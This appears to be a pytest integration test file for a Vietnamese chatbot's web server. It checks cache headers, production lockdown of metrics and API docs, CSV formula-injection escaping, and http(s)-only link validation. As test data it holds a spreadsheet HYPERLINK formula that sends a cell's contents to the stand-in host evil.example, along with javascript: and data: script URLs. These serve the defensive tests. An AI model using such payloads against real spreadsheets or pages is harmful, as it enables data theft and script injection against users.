"""Issue 25, finding 7 against the real server (uvicorn on 127.0.0.1): personal data is never cached,
operator endpoints are closed in production, CSV exports do not run as formulas, links are http(s) only."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import httpx
import pytest

from bot.bootstrap import build_accounts, build_desk, ingest
from bot.core.csvsafe import safe_cell, safe_row
from bot.core.handoff import TicketSummary
from bot.retrieval.embedders import FakeEmbedder
from bot.web.app import create_app
from ingest.pipeline import IngestFailed
from tests.cli_inproc import run_cli
from tests.conftest import make_settings
from tests.fakes import ServerThread
from tests.integration.admin_helpers import GUIDE, PW, THUONG_LAM, Session, admin_app
from tests.webchat import headers, new_session, say

TOKEN = "Q7v2Lm9XpR4tZk8WbN3yH6cJ1sD5fG0aE"
EVIL_NAME = '=HYPERLINK("https://evil.example/?x="&A1,"bam vao day")'


def _no_store(r: httpx.Response) -> bool:
    return r.headers.get("cache-control") == "no-store" and r.headers.get("pragma") == "no-cache"


def test_personal_data_responses_are_never_stored_by_a_cache(tmp_path: Path, mini_kb: Path) -> None:
    _s, _app, server = admin_app(tmp_path, f"sqlite:///{tmp_path / 'a.db'}", mini_kb)
    with server as srv:
        sid = new_session(srv.url)
        say(srv.url, sid, text="/start 02269")
        chat = say(srv.url, sid, text="toi muon gap nguoi that")
        assert _no_store(chat)
        h = headers(sid)
        for path in ("/api/chat/updates?wait=0", "/api/chat/export"):
            assert _no_store(httpx.get(srv.url + path, headers=h)), path
        lan, admin = Session(srv.url, "lan"), Session(srv.url, "quantri")
        assert _no_store(lan.get("/api/tickets")) and _no_store(lan.get("/api/tickets/1"))
        assert _no_store(admin.get("/api/admin/users")) and _no_store(admin.get("/admin"))
        assert _no_store(admin.get("/api/tickets/metrics?format=csv"))
        assert _no_store(httpx.get(f"{srv.url}/api/chat/updates"))  # even the 401
        assert not _no_store(httpx.get(f"{srv.url}/static/chat.js"))  # public files may be cached


def _production(tmp_path: Path, mini_kb: Path, **env: str) -> ServerThread:
    s = make_settings(tmp_path, db_url=f"sqlite:///{tmp_path / 'p.db'}", BINHDAN_APP__MODE="production",
                      BINHDAN_AUTH__COOKIE_SECURE="never",  # the test talks plain http to 127.0.0.1
                      BINHDAN_SERVER__RUN_WORKERS="false", **env)
    ingest(s, embedder=FakeEmbedder(), paths=[mini_kb])
    acc = build_accounts(s)
    acc.add_user("quantri", PW, role="admin")
    acc.add_user("bientap", PW, role="editor")
    return ServerThread(create_app(s))


OPERATOR = ("/metrics", "/openapi.json", "/docs", "/redoc")


def test_metrics_and_api_description_are_closed_in_production(tmp_path: Path, mini_kb: Path) -> None:
    with _production(tmp_path, mini_kb, BINHDAN_SERVER__METRICS_TOKEN=TOKEN) as srv:
        for path in OPERATOR:
            assert httpx.get(srv.url + path).status_code == 404, path
            assert httpx.get(srv.url + path, headers={"Authorization": "Bearer wrong-token"}).status_code == 404
        bearer = {"Authorization": f"Bearer {TOKEN}"}
        assert httpx.get(f"{srv.url}/metrics", headers=bearer).text.startswith("#")
        assert "/api/chat" in httpx.get(f"{srv.url}/openapi.json", headers=bearer).json()["paths"]
        editor, admin = Session(srv.url, "bientap"), Session(srv.url, "quantri")
        assert editor.get("/metrics").status_code == 404  # an editor is not an operator
        assert admin.get("/metrics").status_code == 200 and admin.get("/openapi.json").status_code == 200
        assert httpx.get(f"{srv.url}/healthz").status_code == 200  # the probes stay open


def test_metrics_and_api_description_stay_open_in_development(tmp_path: Path, mini_kb: Path) -> None:
    s = make_settings(tmp_path, db_url=f"sqlite:///{tmp_path / 'd.db'}", BINHDAN_SERVER__RUN_WORKERS="false")
    ingest(s, embedder=FakeEmbedder(), paths=[mini_kb])
    with ServerThread(create_app(s)) as srv:
        assert httpx.get(f"{srv.url}/metrics").status_code == 200
        assert httpx.get(f"{srv.url}/openapi.json").status_code == 200


@pytest.mark.parametrize("value,want", [("=1+2", "'=1+2"), ("+84912", "'+84912"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
                                        ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("Lan", "Lan"), (-5, -5), (3.5, 3.5),
                                        ("", "")])
def test_csv_cells_that_start_a_formula_are_quoted(value: object, want: object) -> None:
    assert safe_cell(value) == want and safe_row([value]) == [want]


def test_ticket_and_volunteer_csv_reports_do_not_run_formulas(tmp_path: Path, mini_kb: Path) -> None:
    db = f"sqlite:///{tmp_path / 'c.db'}"
    s, _app, server = admin_app(tmp_path, db, mini_kb)
    acc = build_accounts(s)
    evil = acc.add_user("tnv-evil", PW, role="volunteer", communes=[THUONG_LAM], display_name=EVIL_NAME)
    desk = build_desk(s)
    t = desk.request(channel="web", user_ref="w-csv-1", reason="asked", summary=TicketSummary("asked"), commune=THUONG_LAM)
    desk.claim(evil, t.id)
    with server as srv:
        body = Session(srv.url, "quantri").get("/api/tickets/metrics", params={"format": "csv", "by": "volunteers"}).text
    rows = list(csv.DictReader(io.StringIO(body)))
    assert [r["name"] for r in rows if r["key"] == "tnv-evil"] == ["'" + EVIL_NAME]
    env = {"BINHDAN_DATABASE__URL": db, "BINHDAN_INDEX__DIR": str(tmp_path / "index"), "BINHDAN_EMBEDDER__KIND": "fake"}
    out = run_cli(["report", "tickets", "--by", "volunteers", "--format", "csv"], env)
    assert out.returncode == 0, out.stderr
    cells = [r["name"] for r in csv.DictReader(io.StringIO(out.stdout)) if r["key"] == "tnv-evil"]
    assert cells == ["'" + EVIL_NAME]


def test_faq_and_guide_links_must_be_http_or_https(tmp_path: Path, mini_kb: Path) -> None:
    _s, _app, server = admin_app(tmp_path, f"sqlite:///{tmp_path / 'u.db'}", mini_kb)
    table = ("id,question,answer,url,topic\n"
             "faq-x-1,Cau hoi mot,Tra loi mot.,javascript:alert(document.cookie),vneid\n"
             "faq-x-2,Cau hoi hai,Tra loi hai.,data:text/html;base64,PHNjcmlwdD4=,vneid\n"
             "faq-x-3,Cau hoi ba,Tra loi ba.,https://vneid.gov.vn,vneid\n")
    with server as srv:
        ed = Session(srv.url, "bientap")
        p = ed.post("/api/admin/kb/preview?filename=bang.csv", content=table.encode()).json()["preview"]
        errors = {r["line"]: r["error"] for r in p["rows"]}
        assert p["valid_rows"] == 1 and "http" in errors["2"] and "http" in errors["3"] and errors["4"] == ""
        bad_guide = GUIDE.replace("source_url: https://vneid.gov.vn", "source_url: javascript:alert(1)")
        g = ed.post("/api/admin/kb/preview?filename=g.md", content=bad_guide.encode()).json()["preview"]
        assert not g["ok"] and any("http" in e for e in g["errors"])
    folder = tmp_path / "bad-kb" / "guides" / "vneid"
    folder.mkdir(parents=True)
    (folder / "g.md").write_text(GUIDE.replace("source_url: https://vneid.gov.vn", "source_url: data:text/html,x"),
                                 encoding="utf-8")
    with pytest.raises(IngestFailed) as failed:  # `binhdan ingest` of a guide file
        ingest(make_settings(tmp_path / "k"), embedder=FakeEmbedder(), paths=[tmp_path / "bad-kb"])
    assert any("source_url 'data:text/html,x' is not a web address: only http:// or https://" in e
               for e in failed.value.errors), failed.value.errors
